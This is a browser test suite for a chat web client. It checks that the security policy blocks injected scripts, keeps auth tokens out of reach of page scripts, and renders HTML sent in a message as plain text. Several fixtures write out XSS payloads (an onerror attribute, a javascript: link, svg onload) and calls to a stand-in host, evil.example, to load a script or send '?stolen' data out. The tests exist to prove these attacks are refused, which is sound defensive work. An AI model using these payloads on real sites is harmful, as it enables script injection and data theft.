/** What scripts that do not belong here can do: nothing, and reach nothing. */

import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { composer, createChannel, message, pageErrors, SIGNED, say, signUp } from './browser';
import { stage } from './stage';

declare global {
  interface Window {
    violations: string[];
    ran?: string;
  }
}

const on = stage();
let ann: Page;

beforeAll(async () => {
  ann = await on.open();
  await ann.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
});

const violations = () => ann.evaluate(() => window.violations);

/** Every place and every answer in which a token could be. */
async function within(page: Page): Promise<string> {
  const { cookies, local, session, caches, databases } = await page.evaluate(async () => ({
    cookies: document.cookie,
    local: JSON.stringify(localStorage),
    session: JSON.stringify(sessionStorage),
    caches: await window.caches.keys(),
    databases: (await indexedDB.databases()).map((d) => d.name),
  }));
  expect(caches).toEqual([]);
  expect(databases).toEqual([]);
  return [cookies, local, session].join('\n');
}

describe('a walk through the client', () => {
  it('breaks no policy', async () => {
    const bodies: string[] = [];
    ann.on('response', async (response) => {
      if (response.url().includes('/api/v1/auth/')) bodies.push(await response.text());
    });
    await signUp(ann, on.server.url + on.server.setupPath(), 'Ann');
    await createChannel(ann, 'kitchen');
    await say(ann, 'kitchen', 'Look at https://example.org **now**\n```\ncode\n```');
    await message(ann, 'Look at').waitFor();
    await ann.getByRole('button', { name: /1 member/ }).click();
    await ann.getByRole('button', { name: 'Invite by a link' }).click();
    await ann.getByRole('button', { name: 'Make a link' }).click();
    await ann.getByLabel('The link').waitFor();
    await ann.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
    await ann.getByRole('button', { name: /^Colours/ }).click();
    for (const page of ['Browse channels', 'Run this server', 'Audit log']) {
      await ann.getByRole('link', { name: page }).click();
      await ann.getByRole('heading', { level: 1 }).waitFor();
    }
    await ann.getByRole('link', { name: /^Your account/ }).click();
    await ann.getByText('This device').waitFor();
    expect(await violations()).toEqual([]);
    expect(pageErrors).toEqual([]);
    // No answer tells a token either, so that none is in the memory of the page.
    expect(bodies.length).toBeGreaterThan(0);
    expect(bodies.join('\n')).not.toMatch(/accessToken|refreshToken/);
    expect(bodies.join('\n')).not.toMatch(SIGNED);
  });

  it('leaves no token where scripts can read it', async () => {
    const all = await ann.context().cookies(`${on.server.url}/api/v1/auth/refresh`);
    const secrets = all.filter((c) => /access|refresh/.test(c.name)).map((c) => c.value);
    expect(secrets).toHaveLength(2);
    expect(secrets.filter((secret) => SIGNED.test(secret))).not.toEqual([]);
    const readable = await within(ann);
    expect(readable).toMatch(/klatch_csrf=/);
    for (const secret of secrets) expect(readable).not.toContain(secret);
    expect(readable).not.toMatch(SIGNED);
  });
});

describe('a script that got into the page', () => {
  it('does not run inline, as an attribute, as a string, or from elsewhere', async () => {
    await ann.evaluate(() => {
      window.violations = [];
      const tries = [
        () => {
          const inline = document.createElement('script');
          inline.append('window.ran = "inline"');
          document.body.append(inline);
        },
        () => {
          const image = document.createElement('img');
          image.setAttribute('onerror', 'window.ran = "attribute"');
          image.src = '/assets/none.png';
          document.body.append(image);
        },
        () => {
          const foreign = document.createElement('script');
          foreign.src = 'https://evil.example/script.js';
          document.body.append(foreign);
        },
        () => {
          document.body.insertAdjacentHTML('beforeend', '<svg onload="window.ran = 1">');
        },
        () => {
          const link = document.createElement('a');
          link.href = 'javascript:window.ran="address"';
          document.body.append(link);
          link.click();
        },
        () => {
          const image = document.createElement('img');
          image.src = 'https://evil.example/pixel.png';
          document.body.append(image);
        },
      ];
      for (const attempt of tries) {
        try {
          attempt();
        } catch {
          // Refused before it reached the page: a violation all the same.
        }
      }
    });
    await expect.poll(async () => (await violations()).length).toBeGreaterThanOrEqual(6);
    expect(await ann.evaluate(() => window.ran)).toBeUndefined();
    const told = (await violations()).join('\n');
    expect(told).toMatch(/script-src|require-trusted-types-for/);
    expect(told).toContain('img-src https://evil.example/pixel.png');
  });

  it('can neither send anything elsewhere nor be framed', async () => {
    const sent = await ann.evaluate(() =>
      fetch('https://evil.example/?stolen').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
    expect((await violations()).join('\n')).toContain('connect-src https://evil.example');
    const headers = (await fetch(on.server.url)).headers;
    expect(headers.get('Content-Security-Policy')).toContain("frame-ancestors 'none'");
    expect(headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin');
    expect(headers.get('Referrer-Policy')).toBe('no-referrer');
  });

  it('is only words in a message', async () => {
    await ann.goto(`${on.server.url}/#/`);
    await ann.locator('.room-item', { hasText: 'kitchen' }).click();
    const evil = '<img src=x onerror="window.ran=1"> [a](javascript:window.ran=2)';
    await composer(ann, 'kitchen').fill(evil);
    await composer(ann, 'kitchen').press('Enter');
    const row = message(ann, 'onerror');
    await row.waitFor();
    expect(await row.locator('img, a').count()).toBe(0);
    expect(await ann.evaluate(() => window.ran)).toBeUndefined();
  });
});
